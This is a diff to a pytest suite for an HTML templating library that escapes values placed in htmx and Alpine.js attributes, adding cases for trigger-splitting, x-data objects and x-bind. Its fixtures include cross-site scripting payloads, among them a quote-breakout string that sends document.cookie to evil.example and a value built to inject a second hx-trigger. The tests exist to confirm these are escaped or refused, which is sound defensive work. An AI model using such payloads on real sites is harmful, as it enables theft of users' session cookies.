@@ -25,6 +25,8 @@ from htmltemplates import (
 BREAKOUT = "x'); fetch('//evil.example/?c='+document.cookie); ('"
 QUOTED = "x\\u0027); fetch(\\u0027//evil.example/?c=\\u0027+document.cookie); (\\u0027"
 CODE = "alert(document.cookie)"
+# htmx 4 counts quotes without their escapes and splits hx-trigger at ',' outside them
+SPLIT = 'x"], click[steal()] //'
 
 
 @pytest.mark.parametrize(
@@ -79,13 +81,27 @@ CODE = "alert(document.cookie)"
         # hx-trigger: filters are JavaScript, the rest is text without brackets
         pytest.param(
             t'<div hx-trigger="click[ctrlKey && {CODE}] from:{"body"}">',
-            '<div hx-trigger="click[ctrlKey &&  &#34;alert(document.cookie)&#34; ] from:body">',
+            '<div hx-trigger="click[ctrlKey &&  &#34;alert\\u0028document.cookie\\u0029&#34; ]'
+            ' from:body">',
             id="hx-trigger-filter",
         ),
         pytest.param(
             t"<div hx-trigger=\"keyup[key == '{BREAKOUT}']\">",
-            f"<div hx-trigger=\"keyup[key == '{QUOTED}']\">",
+            "<div hx-trigger=\"keyup[key == 'x\\u0027\\u0029\\u003b fetch\\u0028\\u0027"
+            "\\u002f\\u002fevil.example\\u002f\\u003fc\\u003d\\u0027+document.cookie"
+            "\\u0029\\u003b \\u0028\\u0027']\">",
             id="hx-trigger-filter-string",
+        ),
+        pytest.param(
+            t'<div hx-trigger="click[f({SPLIT})]">',
+            '<div hx-trigger="click[f( &#34;x\\u0022\\u005d\\u002c click\\u005bsteal'
+            '\\u0028\\u0029\\u005d \\u002f\\u002f&#34; )]">',
+            id="hx-trigger-filter-htmx4-split",
+        ),
+        pytest.param(
+            t'<div hx-trigger="click[a == {3} && b == {None} && c == {True}]">',
+            '<div hx-trigger="click[a ==  3  && b ==  null  && c ==  true ]">',
+            id="hx-trigger-filter-scalars",
         ),
         pytest.param(
             t'<div hx-trigger="click[a[0]] delay:{500}ms">',
@@ -94,7 +110,7 @@ CODE = "alert(document.cookie)"
         ),
         pytest.param(
             t'<div hx-trigger="click&#91;a == {CODE}&#93;">',
-            '<div hx-trigger="click&#91;a ==  &#34;alert(document.cookie)&#34; &#93;">',
+            '<div hx-trigger="click&#91;a ==  &#34;alert\\u0028document.cookie\\u0029&#34; &#93;">',
             id="hx-trigger-filter-by-reference",
         ),
         pytest.param(
@@ -210,6 +226,13 @@ CODE = "alert(document.cookie)"
             id="x-text",
         ),
         pytest.param(
+            t'<div x-data="{{ name: {CODE}, init() {{ this.ready = true }} }}">',
+            '<div x-data="{ name:  &#34;alert(document.cookie)&#34; , init() { this.ready = true }'
+            ' }">',
+            id="x-data-object-in-template",
+        ),
+        pytest.param(t"<div x-data={True}>", "<div x-data>", id="x-data-bare"),
+        pytest.param(
             t"<div x-init={CODE} x-show={True} x-effect={None}>",
             '<div x-init=" &#34;alert(document.cookie)&#34; " x-show>',
             id="x-init-show-effect",
@@ -310,6 +333,8 @@ def test_framework_attributes(template: Template, expected: str) -> None:
         pytest.param(t"<iframe :srcdoc={CODE}></iframe>", "refused-attribute", id="bind-srcdoc"),
         pytest.param(t"<a :hx-vals={CODE}>", "refused-attribute", id="bind-json"),
         pytest.param(t"<p _='on click {CODE}'>", "refused-attribute", id="hyperscript"),
+        pytest.param(t"<p x-bind={ {'@click': CODE} }>", "refused-attribute", id="x-bind-object"),
+        pytest.param(t"<p x-bind='{CODE}'>", "refused-attribute", id="x-bind-part"),
         pytest.param(t"<p hx-vals='{{\"a\": `{CODE}`}}'>", "event-handler", id="json-template"),
         pytest.param(
             t'<div hx-trigger="click[a && /{CODE}/]">', "event-handler", id="trigger-filter-regex"
@@ -336,6 +361,8 @@ def test_framework_positions_refused(template: Template, anchor: str) -> None:
         pytest.param(t"<p hx-vals={'{"a": 1}'}>", "json-attribute", id="hx-vals-str"),
         pytest.param(t"<p hx-headers={3}>", "json-attribute", id="hx-headers-number"),
         pytest.param(t"<p hx-trigger={'click[x()]'}>", "htmx-trigger", id="trigger-whole"),
+        pytest.param(t'<p hx-trigger="click[f({[1, "("]})]">', "htmx-trigger", id="filter-list"),
+        pytest.param(t'<p hx-trigger="click[f({ {"a": 1} })]">', "htmx-trigger", id="filter-dict"),
         pytest.param(t'<p hx-trigger="load, {"c[x()]"}">', "htmx-trigger", id="trigger-part"),
         pytest.param(t"<p hx-confirm={' \ufeffJavaScript:x()'}>", "js-prefix", id="confirm-js"),
         pytest.param(t'<p hx-confirm="  {"js"}:x()">', "js-prefix", id="confirm-completed"),
@@ -344,6 +371,15 @@ def test_framework_positions_refused(template: Template, anchor: str) -> None:
         pytest.param(t"<p { {'hx-confirm': 'js:x()'} }>", "js-prefix", id="spread-confirm"),
         pytest.param(t"<div x-html={'<b>hi</b>'}>", "html-attribute", id="x-html-str"),
         pytest.param(t"<a :href={['javascript:x']}>", "bound-url", id="bind-url-list"),
+        pytest.param(t"<p x-data={ {'init': CODE} }>", "alpine-data", id="x-data-init"),
+        pytest.param(
+            t"<p x-data={ {'a': [{'destroy': CODE}]} }>", "alpine-data", id="x-data-deep-destroy"
+        ),
+        pytest.param(
+            t'<p x-data="{{ ...{ {"init": CODE} } }}">', "alpine-data", id="x-data-spread-init"
+        ),
+        pytest.param(t"<p x-data={'open: true'}>", "alpine-data", id="x-data-str"),
+        pytest.param(t"<p x-data={42}>", "alpine-data", id="x-data-number"),
         pytest.param(t"<p data={ {'hx-on:click': CODE} }>", "spread-name", id="data-dict"),
     ],
 )
@@ -394,15 +430,15 @@ def test_a_user_set_vue() -> None:
 
 @pytest.mark.usefixtures("rules")
 def test_disabling_a_set_makes_its_attributes_text_again_and_drops_plans() -> None:
-    template = t"<div x-data={'a'} { {'x-init': 'b'} }>"
-    assert '<div x-data=" &#34;a&#34; ">' == html(t"<div x-data={'a'}>")
+    template = t"<div x-show={'a'} { {'x-init': 'b'} }>"
+    assert '<div x-show=" &#34;a&#34; ">' == html(t"<div x-show={'a'}>")
     with pytest.raises(RenderError):
         html(template)
     attribute_rules.disable("alpine")
     assert 0 == cache_info().size
-    assert '<div x-data="a" x-init="b">' == html(template)
+    assert '<div x-show="a" x-init="b">' == html(template)
     attribute_rules.enable("alpine")
-    assert '<div x-data=" &#34;a&#34; ">' == html(t"<div x-data={'a'}>")
+    assert '<div x-show=" &#34;a&#34; ">' == html(t"<div x-show={'a'}>")
 
 
 @pytest.mark.usefixtures("rules")
@@ -433,7 +469,7 @@ def test_within_a_set_the_most_specific_pattern_wins() -> None:
     [
         pytest.param(
             {"x": "js"},
-            "'js' is not an attribute context; use one of: javascript, bind, html, json, "
+            "'js' is not an attribute context; use one of: javascript, x-data, bind, html, json, "
             "js-prefixed, htmx-trigger, url, resource-url, text, refused",
             id="context",
         ),
